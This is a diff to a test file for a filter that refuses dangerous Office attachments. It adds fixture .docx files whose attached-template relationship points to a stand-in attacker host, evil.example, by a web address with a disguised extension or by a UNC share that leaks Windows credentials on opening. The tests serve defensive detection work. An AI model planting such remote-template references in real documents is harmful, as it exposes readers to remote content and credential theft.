@@ -710,6 +710,18 @@ describe('Office attachments that act on the reader are refused (DDE, macros, Ac
       ['remote-content'],
     ],
     [
+      'a template on the web whose format the address does not give',
+      'notice.docx',
+      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://evil.example/t?x=.dotx') }),
+      ['remote-content'],
+    ],
+    [
+      'a macro-free template on a share (opening it sends Windows credentials)',
+      'notice.docx',
+      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', '\\\\evil.example\\share\\t.dotx') }),
+      ['remote-content'],
+    ],
+    [
       "a template on another computer's share (UNC)",
       'notice.docx',
       docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', '\\\\evil.example\\share\\t.dotm') }),
@@ -810,6 +822,13 @@ describe('Office attachments that act on the reader are refused (DDE, macros, Ac
       'a hyperlink to another site',
       'notice.docx',
       docx(body(''), { 'word/_rels/document.xml.rels': externalRelationship('hyperlink', 'https://www.nacc.go.th/') }),
+    ],
+    [
+      'a macro-free template on SharePoint, as Office 365 writes it',
+      'notice.docx',
+      docx(body(''), {
+        'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://agency.sharepoint.com/sites/docs/Forms/template.dotx'),
+      }),
     ],
     [
       "a template on the author's own disk, as Word writes it",
